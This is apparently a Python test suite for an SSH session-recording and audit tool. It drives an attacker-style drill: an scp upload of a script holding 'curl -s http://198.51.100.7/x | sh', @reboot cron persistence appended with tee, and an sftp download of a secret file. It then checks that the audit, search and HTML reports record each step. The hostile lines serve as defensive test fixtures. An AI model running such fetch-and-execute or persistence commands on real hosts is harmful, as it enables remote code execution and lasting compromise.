"""The audit drill of escort-replay(1) ("ANSWERING AN AUDIT"), recorded
through the real proxy and recorder from real scp, ssh and sftp clients: a
technician uploads a script with scp, pipes a cron line into tee -a over an
exec request, types (one key at a time, with a typo mended by Backspace) a
command line in an interactive shell that appends an @reboot line to the
same crontab file, and downloads a secret file with sftp.  What a security
team checks: audit --user (text, --json and --html) lists the upload with
its SHA-256, the piped cron line as text, the typed command as it ran (the
edited form) and the download with its SHA-256; search finds the typed
command by its input line and by its output although it was typed key by
key; export --format text shows the edited line as it ran.  And audit
--html shows stdin as the text audit does (escaped text, else its size).

With ESCORT_DRILL_KEEP=DIR the recorded store is copied to DIR/store and the
recorder's public key to DIR/recorder-ed25519.pub.pem, to try the man page's
commands by hand."""
import hashlib, html, json, os, re, shutil, time

from harness.core import Env
from harness.term import Term
from harness.proxy import DEFAULT_RULES, ProxyWorld, replay, scp, session_id, sftp

RULES = DEFAULT_RULES.replace('    allow "echo ..."\n',
                              '    allow "echo ..."\n    allow "tee ..."\n    allow "cd ..."\n')
SCRIPT = b"#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n"
SECRET = b"customer list: ACME Corp, 4711 units\n"
PIPED = b"@reboot sh x.sh\n"
# what the shell ran, and the keys typed for it: "cront", a stray "b",
# Backspace, then "ab"
TYPED = "echo '@reboot sh x.sh' | tee -a crontab"
KEYS = b"echo '@reboot sh x.sh' | tee -a crontb\x7fab"


def type_keys(t, keys):
    for k in keys:
        t.send(bytes([k]))
        time.sleep(0.03)                    # one key per event


def shell(w, workdir):
    """The interactive part: returns the session id."""
    t = Term(w.ssh_argv("alice", "web01", None, extra=("-tt",)))
    try:
        seen = t.expect(b"is recorded")
        sid = re.search(rb"escort: session (\S+) is recorded", seen).group(1).decode()
        t.send(b"PS1='P''S> '\r")
        t.expect(b"PS> ")
        t.send(b"cd " + workdir.encode() + b"\r")
        t.expect(b"PS> ")
        type_keys(t, KEYS)
        t.send(b"\r")
        t.expect(b"\r@reboot sh x.sh\r\n")         # tee's output
        t.expect(b"PS> ")
        t.send(b"exit 0\r")
        assert t.wait() == 0
    finally:
        try:
            os.kill(t.pid, 9)
            os.waitpid(t.pid, 0)
        except (ProcessLookupError, ChildProcessError):
            pass
    return sid


def record(env):
    """The drill through the proxy: returns (world, facts)."""
    w = ProxyWorld(env, rules=RULES)
    f = {}
    workdir = os.path.dirname(w.marker("x.sh"))
    os.makedirs(workdir, exist_ok=True)
    f["script"], f["cron"], f["secret"] = (os.path.join(workdir, n)
                                           for n in ("x.sh", "crontab", "secret.txt"))
    with open(f["secret"], "wb") as g:
        g.write(SECRET)
    # 1. the script, uploaded with scp
    src = env.path("x.sh")
    with open(src, "wb") as g:
        g.write(SCRIPT)
    r = scp(w, src, "remote:" + f["script"])
    assert r.returncode == 0, r
    f["scp"] = session_id(r.stderr)
    # 2. a cron line piped into an exec request
    r = w.ssh("alice", "web01", "tee -a " + f["cron"], input=PIPED)
    assert r.returncode == 0 and r.stdout == PIPED, r
    f["exec"] = session_id(r.stderr)
    # 3. typed in a shell, key by key, with an edit
    f["shell"] = shell(w, workdir)
    with open(f["cron"], "rb") as g:
        assert g.read() == PIPED + PIPED          # both lines reached the target
    # 4. the secret, downloaded with sftp
    got = env.path("secret.copy")
    r = sftp(w, "get %s %s\n" % (f["secret"], got))
    assert r.returncode == 0, r
    f["sftp"] = session_id(r.stderr)
    with open(got, "rb") as g:
        assert g.read() == SECRET
    assert w.proxy.stop() == 0, w.proxy.log()[-3000:]
    keep = os.environ.get("ESCORT_DRILL_KEEP")
    if keep:
        shutil.rmtree(os.path.join(keep, "store"), ignore_errors=True)
        shutil.copytree(w.store, os.path.join(keep, "store"))
        shutil.copy(env.path("recorder-ed25519.pub.pem"), keep)
    return w, f


def ids(r):
    assert r.returncode in (0, 1), r
    return sorted({l.split()[0] for l in r.stdout.decode().splitlines()})


def test_the_audit_drill_through_the_proxy():
    with Env() as env:
        w, f = record(env)
        up_hash = hashlib.sha256(SCRIPT).hexdigest()
        down_hash = hashlib.sha256(SECRET).hexdigest()

        # audit, text: every fact, each in its session
        a = replay(w, "audit", "--user", "alice")
        assert a.returncode == 0, a
        out = a.stdout.decode()
        assert re.search(r"upload  %s %d bytes sha256 %s\n" % (
            re.escape(f["script"]), len(SCRIPT), up_hash), out), out
        assert re.search(r"tee -a %s \(exit 0\)\n +stdin: @reboot sh x\.sh\n"
                         % re.escape(f["cron"]), out), out
        assert re.search(r"allow +techs: %s \(observe #\d+ at \+[0-9.]+s\)\n"
                         % re.escape(TYPED), out), out
        assert "crontb" not in out, out
        assert re.search(r"download %s %d bytes sha256 %s\n" % (
            re.escape(f["secret"]), len(SECRET), down_hash), out), out
        for sid in (f["scp"], f["exec"], f["shell"], f["sftp"]):
            assert re.search(r"session %s on web01 from .*\(integrity: ok\)" % sid, out), (sid, out)
        # in time order: upload, cron line, typed line, download
        assert out.index(f["scp"]) < out.index(f["exec"]) < out.index(f["shell"]) \
            < out.index(f["sftp"]), out

        # audit, --json: the same facts, one session a line
        a = replay(w, "audit", "--user", "alice", "--json")
        assert a.returncode == 0, a
        rows = {o["id"]: o for o in map(json.loads, a.stdout.decode().splitlines())}
        assert set(rows) == {f["scp"], f["exec"], f["shell"], f["sftp"]}, rows
        assert all(o["verify"] == "ok" and o["user"] == "alice" for o in rows.values()), rows
        files = lambda sid: rows[sid]["file_list"]
        assert [(x["type"], x["path"], x["size"], x["sha256"]) for x in files(f["scp"])
                if x["type"] == "upload"] == [("upload", f["script"], len(SCRIPT), up_hash)], \
            rows[f["scp"]]
        assert [(x["type"], x["path"], x["size"], x["sha256"]) for x in files(f["sftp"])
                if x["type"] == "download"] == \
            [("download", f["secret"], len(SECRET), down_hash)], rows[f["sftp"]]
        cmd = [c for c in rows[f["exec"]]["command_list"] if c["command"].startswith("tee ")]
        assert len(cmd) == 1 and cmd[0]["stdin"] == PIPED.decode(), rows[f["exec"]]
        typed = [c for c in rows[f["shell"]]["command_list"] if c["mode"] == "observe"]
        assert [(c["command"], c["decision"]) for c in typed
                if "@reboot" in c["command"]] == [(TYPED, "allow")], typed

        # search: by the input line and by the output, typed key by key
        for expr in ("input 'crontab'", "input 'tee -a crontab'", "output 'tee -a crontab'",
                     "input crontab and output '@reboot sh x.sh'"):
            r = replay(w, "search", expr)
            assert ids(r) == [f["shell"]], (expr, r)
        r = replay(w, "search", "input 'tee -a crontb'")
        assert r.returncode == 1 and r.stdout == b"", r
        r = replay(w, "search", "--json", "input 'crontab'")
        hit = json.loads(r.stdout.decode().splitlines()[0])
        assert hit["id"] == f["shell"] and hit["predicate"] == "input", hit
        assert hit["offset"] > 0, hit
        r = replay(w, "search", "file", up_hash)
        assert ids(r) == [f["scp"]], r
        r = replay(w, "search", "file '*/secret.txt'")
        assert ids(r) == [f["sftp"]], r
        r = replay(w, "search", "command '*tee -a *'")
        assert ids(r) == sorted([f["exec"], f["shell"]]), r

        # export --format text: the edited line as it ran
        r = replay(w, "export", f["shell"], "--format", "text")
        assert r.returncode == 0, r
        text = r.stdout.decode()
        assert "PS> " + TYPED in text.splitlines(), text
        assert "crontb" not in text and "\x1b" not in text, text

        # audit --html: one page with the same facts
        r = replay(w, "audit", "--user", "alice", "--html")
        assert r.returncode == 0, r
        raw = r.stdout.decode()
        # the piped cron line as text under its command, as in the text audit
        assert re.search(r'>tee -a %s<div class="stdin"><small>stdin:</small><br>'
                         r'@reboot sh x\.sh\n</div>' % re.escape(html.escape(f["cron"])),
                         raw), raw
        page = html.unescape(raw)
        assert page.lstrip().lower().startswith("<!doctype html"), page[:200]
        for fact in (up_hash, down_hash, f["script"], f["secret"], TYPED,
                     "tee -a " + f["cron"]):
            assert fact in page, (fact, page)
        assert "crontb" not in page, page


def test_audit_html_shows_stdin_as_the_text_audit_does():
    """Stdin that is not short text is named by its size, in both reports;
    text with markup in it is escaped in the page."""
    import subprocess
    from harness.core import bin_path, tool_path
    with Env() as env:
        key = env.path("k.pem")
        pub = env.path("k.pub.pem")
        subprocess.run(["openssl", "genpkey", "-algorithm", "ed25519", "-out", key],
                       check=True, capture_output=True)
        subprocess.run(["openssl", "pkey", "-in", key, "-pubout", "-out", pub], check=True)
        store = env.path("store")
        big = "x" * 100 + "\\n"
        cases = {"t-text": "<b>@reboot</b> & sh\\n", "t-bin": "\\x00\\x01\\xff",
                 "t-big": big * 50}
        for sid, data in cases.items():
            script = env.write(sid + ".txt",
                               "0.1\tchannel\t0\taction=exec\tcommand=tee -a /etc/crontab\n"
                               "0.1\tdecision\t0\tverdict=allow\tcommand=tee -a /etc/crontab"
                               "\trule=ops\n0.2\tinput\t0\t%s\n0.3\texit\t0\texit_status=0\n" % data)
            r = subprocess.run([tool_path("rec-mksession"), "--store", store, "--key", key,
                                "--id", sid, "--user", sid, script], capture_output=True,
                               timeout=30)
            assert r.returncode == 0, r

        def run(*args):
            r = subprocess.run([bin_path("escort-replay"), "--store", store, "--key", pub, *args],
                               capture_output=True, timeout=30)
            assert r.returncode == 0, r
            return r.stdout.decode()
        page = run("audit", "--user", "t-text", "--html")
        assert '<div class="stdin"><small>stdin:</small><br>&lt;b&gt;@reboot&lt;/b&gt; '\
            '&amp; sh\n</div>' in page, page
        assert "<b>@reboot" not in page, page
        assert "stdin: &lt;b&gt;@reboot&lt;/b&gt; &amp; sh" in html.escape(
            run("audit", "--user", "t-text"), quote=False), run("audit", "--user", "t-text")
        page = run("audit", "--user", "t-bin", "--html")
        assert "stdin: 3 bytes (not text; export --format json has them)" in page, page
        assert "stdin: 3 bytes (not text; export --format json has them)" in \
            run("audit", "--user", "t-bin")
        page = run("audit", "--user", "t-big", "--html")
        assert "stdin: 5050 bytes (more than 4096 bytes; export --format json has them)" \
            in page, page
        assert "stdin: 5050 bytes (more than 4096 bytes" in run("audit", "--user", "t-big")
        assert 'class="stdin"' not in page, page
